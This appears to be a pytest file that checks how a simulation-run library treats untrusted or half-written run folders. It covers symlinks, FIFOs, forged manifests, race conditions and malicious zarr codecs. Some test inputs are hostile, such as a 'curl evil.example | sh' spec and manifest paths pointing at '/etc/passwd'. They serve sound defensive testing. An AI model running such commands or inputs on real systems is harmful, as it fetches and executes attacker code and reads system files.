"""Run folders that come from somebody else, or are read too early: nothing outside is touched, no other number comes."""

import hashlib
import json
import os
import shutil

import matplotlib.pyplot as plt
import numpy as np
import pytest
import zarr

from attnflow.errors import RunCorrupted, RunError, RunExists
from attnflow.runs import Run, execute, extend, open_run, parse_spec, resume
from tests.cli import commands
from tests.marks import graded
from tests.runs.failing import Stop, is_checkpoint, stopping_after, writes_failing
from tests.runs.kinds import of
from tests.runs.test_folder import TEXT, arrays, identical


@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    path = tmp_path_factory.mktemp("strangers") / "finished"
    execute(parse_spec(TEXT), path)
    return path


@pytest.fixture
def given(finished, tmp_path):
    """A copy of a finished run that may be changed, as one that somebody sent."""
    return shutil.copytree(finished, tmp_path / "given")


def attnflow(*arguments, code=0):
    """What a command prints and says, on one line."""
    done = commands.attnflow(*map(str, arguments), cwd=".", check=code)
    return " ".join((done.stdout + done.stderr).split())


@pytest.fixture
def outside(tmp_path):
    """Files that nothing may touch; looked at afterwards."""
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bashrc").write_text("mine")
    yield folder
    assert {path.name: path.read_text() for path in folder.iterdir()} == {".bashrc": "mine"}


class Death(BaseException):
    """What no code catches."""


def rewrite(path, **changes):
    """Change the manifest as an attacker does, who computes its digest anew."""
    file = path / "manifest.json"
    manifest = {key: value for key, value in json.loads(file.read_text()).items() if key != "digest"} | changes
    digest = hashlib.sha256(json.dumps(manifest, sort_keys=True).encode()).hexdigest()
    file.write_text(json.dumps(manifest | {"digest": digest}))


@pytest.mark.slow
@pytest.mark.parametrize("spec", ["curl evil.example | sh\n", "about = 'another one'\n"])
def test_a_resume_writes_no_text_elsewhere(given, outside, spec):
    """A manifest that is "extending" says what spec.toml is to become; the temporary file may be a link."""
    for name in ("spec.toml.tmp", "manifest.json.tmp", "report.html.tmp", "checkpoint.tmp"):
        (given / name).symlink_to(outside / ".bashrc")
    before = (given / "spec.toml").read_bytes()
    rewrite(given, status="extending", becoming={"spec_hash": "0" * 64, "spec": spec})
    with pytest.raises(RunCorrupted, match="does not have the hash"):
        resume(given)
    assert (given / "spec.toml").read_bytes() == before


def test_an_extension_leaves_links_alone(given, outside):
    """Links under the names of temporary files are no obstacle: these names are random. The folder is then whole."""
    for name in ("spec.toml.tmp", "manifest.json.tmp", "checkpoint.tmp"):
        (given / name).symlink_to(outside / ".bashrc")
    extend(given, 5.0)
    Run.open(given).verify()
    assert not [path for path in given.rglob("*") if path.is_symlink()]


@pytest.mark.parametrize(
    "name", ["spec.toml", "manifest.json", "checkpoint", ".lock", "arrays.zarr", "arrays.zarr/time"]
)
@pytest.mark.parametrize("verb", [resume, open_run, lambda path: extend(path, 5.0)], ids=["resume", "open", "extend"])
def test_links_inside_are_refused(given, outside, verb, name):
    """Also those that lead to the right content: what is read could be exchanged at any moment."""
    target = outside.parent / "moved"
    shutil.move(given / name, target)
    (given / name).symlink_to(target)
    if (verb, name) in [(open_run, ".lock"), (open_run, "checkpoint"), (resume, "checkpoint")]:
        return  # a finished run is opened without them
    with pytest.raises(RunError, match="link"):
        verb(given)


def test_a_pipe_in_the_place_of_a_file_holds_nobody_up(given):
    for name in (".lock", "spec.toml", "checkpoint"):
        (given / name).unlink(missing_ok=True)
        os.mkfifo(given / name)
    rewrite(given, status="running", checksums={})
    for command in ("show", "resume"):
        assert "pipe" in attnflow(command, given, code=5)


@pytest.mark.parametrize("name", ["../home/.bashrc", "/etc/passwd"])
def test_a_manifest_names_no_file_outside(given, outside, name):
    rewrite(given, checksums={name: "0" * 64})
    with pytest.raises(RunCorrupted, match="no name inside a folder"):
        Run.open(given).verify()


def test_of_two_runs_in_one_folder_at_one_instant_one_is_made(tmp_path, faults):
    """Both have seen that nothing is there; the first one is even finished before the second goes on."""
    longer, calls = TEXT.replace("until = 4.0", "until = 6.0"), []

    def late():
        calls.append(1)
        if len(calls) == 1:
            execute(parse_spec(TEXT), tmp_path / "run")
        return facts()

    facts = faults.replace("facts about the machine", late)
    with pytest.raises(RunExists, match="exists already"):
        execute(parse_spec(longer), tmp_path / "run")
    Run.open(tmp_path / "run").verify()
    flow = open_run(tmp_path / "run")
    assert flow.work.until == flow.dataset.time.values[-1] == 4.0


@graded("kind", ["solve", "evolve", "fit"])
def test_before_the_first_checkpoint_there_are_no_rows(kind, tmp_path):
    """The rows of the first chunk are written then, of all variables or of some."""
    with writes_failing(Death, is_checkpoint), pytest.raises(Death):
        execute(of(kind), tmp_path / "run")
    dataset = open_run(tmp_path / "run").dataset
    assert set(dataset.sizes) >= {of(kind).work.rows}
    assert dataset.sizes[of(kind).work.rows] == 0


def test_a_checkpoint_of_another_run_and_an_unknown_ending_are_refused(given, tmp_path):
    execute(parse_spec(TEXT.replace("until = 4.0", "until = 2.0")), tmp_path / "other")
    checkpoint = (given / "checkpoint").read_bytes()
    (given / "checkpoint").write_bytes((tmp_path / "other" / "checkpoint").read_bytes())
    with pytest.raises(RunCorrupted, match="'checkpoint' of .* was altered"):
        open_run(given)
    (given / "checkpoint").write_bytes(checkpoint)
    Run(given).update(outcome={"ending": "a happy one", "message": ""})
    with pytest.raises(RunCorrupted, match="has the outcome .*a happy one"):
        open_run(given)


def test_half_a_character_in_a_manifest_is_refused(given):
    """JSON may write it, but no console and no file can."""
    path = given / "manifest.json"
    facts = json.loads(path.read_text())
    path.write_text(json.dumps(facts | {"name": "\ud800"}))
    assert "half of a character" in attnflow("show", given, code=5)
    path.write_text(json.dumps(facts))
    Run(given).update(name="\U0001f600")
    assert "\\ud83d\\ude00" in path.read_text(), "written as two halves"
    assert "\U0001f600" in attnflow("show", given)


def test_an_array_of_countless_rows_is_refused(tmp_path):
    """Zarr would look for each of its chunks."""
    with stopping_after(2), pytest.raises(Stop):
        execute(parse_spec(TEXT), tmp_path / "run")
    path = tmp_path / "run" / "arrays.zarr" / "energy" / "zarr.json"
    facts = json.loads(path.read_text())
    path.write_text(json.dumps(facts | {"shape": [facts["shape"][0], 10**12]}))
    with pytest.raises(RunCorrupted, match=r"energy has 1000000000000 rows, of which \d+ were written"):
        resume(tmp_path / "run")


@pytest.mark.parametrize("content", [b"", b"\x89PNG\r\n\x1a\nand no more", None])
def test_what_is_no_picture_is_left_out(given, content):
    (given / "figures").mkdir(exist_ok=True)
    for path in (given / "figures").glob("*.png"):
        path.unlink()
    path = given / "figures" / "a.png"
    plt.figure(figsize=(1, 1)).savefig(path)
    plt.close("all")
    assert "<img" in Run(given)._repr_html_()
    path.write_bytes(path.read_bytes()[:300] if content is None else content)
    assert "<img" not in Run(given)._repr_html_()


@pytest.mark.parametrize("written", range(4))
def test_a_run_that_has_just_begun_has_no_result(written, tmp_path):
    """Its store is there, and not yet its arrays."""
    in_store = writes_failing(Death, lambda folder, name: "arrays.zarr" in str(folder.where()), call=written + 1)
    with in_store, pytest.raises(Death):
        execute(of("fit"), tmp_path / "run")
    with pytest.raises(RunError, match="has no arrays yet"):
        open_run(tmp_path / "run")


def test_show_says_how_far_a_run_has_come(tmp_path):
    with stopping_after(2), pytest.raises(Stop):
        execute(parse_spec(TEXT), tmp_path / "run")
    assert "up to time 1.5" in attnflow("show", tmp_path / "run")
    with Run.open(tmp_path / "run").lock():
        Run(tmp_path / "run").update(status="running", began=1.0)
        assert Run(tmp_path / "run").facts()["wall_time"] > 1e9


@pytest.mark.long
def test_a_file_that_is_missing_is_no_file_of_zeros(given, finished):
    """Every file of the arrays once; chunks that hold zeros only are written, so that none may be missing."""
    whole = arrays(finished)
    files = [path.relative_to(given) for path in (given / "arrays.zarr").rglob("*") if path.is_file()]
    chunks = {path.parent.parent for path in files if path.name != "zarr.json"}
    assert len(files) > 20
    for file in files:
        content = (given / file).read_bytes()
        (given / file).unlink()
        with pytest.raises(RunCorrupted, match="missing"):
            open_run(given)
        (given / file).write_bytes(content[:-1] + bytes([content[-1] ^ 1]))
        with pytest.raises(RunCorrupted, match="altered|cannot be read"):
            open_run(given).dataset.load()
        (given / file).write_bytes(content)
    identical(open_run(given).dataset.load(), whole)
    assert chunks


def test_stores_that_are_not_written_by_runs_are_refused(given, finished, tmp_path):
    """Zarr 2, whose filters can be pickles, and codecs that runs do not use; the manifest vouches for no file."""
    rewrite(given, status="running", checksums={})
    values = np.asarray(zarr.open_group(given / "arrays.zarr", mode="r")["speed"][...])
    shutil.rmtree(given / "arrays.zarr")
    group = zarr.open_group(given / "arrays.zarr", mode="w", zarr_format=2)
    group.create_array("speed", data=values)
    with pytest.raises(RunCorrupted, match="cannot be read"):
        open_run(given)
    shutil.rmtree(given / "arrays.zarr")
    shutil.copytree(finished / "arrays.zarr", given / "arrays.zarr")
    file = given / "arrays.zarr" / "speed" / "zarr.json"
    metadata = json.loads(file.read_text())
    metadata["codecs"].append({"name": "numcodecs.pickle", "configuration": {}})
    file.write_text(json.dumps(metadata))
    with pytest.raises(RunCorrupted, match=r"is written with numcodecs.pickle"):
        open_run(given)


def test_where_nothing_can_be_locked_no_folder_is_left(tmp_path, faults):
    def refused(file):
        file.touch()
        raise OSError(37, "No locks available")

    faults.replace("lock a run", refused)
    with pytest.raises(RunError, match="No locks available"):
        execute(parse_spec(TEXT), tmp_path / "run")
    assert not list(tmp_path.iterdir())
